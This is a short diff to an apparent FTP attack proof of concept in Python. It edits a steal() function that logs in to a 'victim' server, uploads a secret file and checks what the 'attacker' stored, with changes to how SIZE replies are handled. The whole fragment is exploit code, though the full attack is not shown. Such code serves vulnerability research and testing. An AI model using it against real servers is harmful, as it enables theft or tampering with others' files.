@@ -128,9 +128,12 @@ def steal(args):
             victim = login(args)
             victim.cwd(args.directory)
         if args.direction == "put" and seen["stored_by_attacker"] is None:
+            reply_of(lambda: victim.voidcmd("TYPE I"))   # SIZE is refused in ASCII mode
             size = reply_of(lambda: victim.size(name))
-            if isinstance(size, int) or not size.startswith("closed"):
-                seen["stored_by_attacker"] = size if isinstance(size, int) and size else 0
+            if isinstance(size, int) or size.startswith("550"):   # its size, or no such file
+                seen["stored_by_attacker"] = size if isinstance(size, int) else 0
+            elif not size.startswith("closed"):
+                seen["stored_by_attacker"] = size
         if args.direction == "put":
             reply_of(lambda: victim.storbinary(f"STOR {name}", io.BytesIO(secret)))
         back = io.BytesIO()
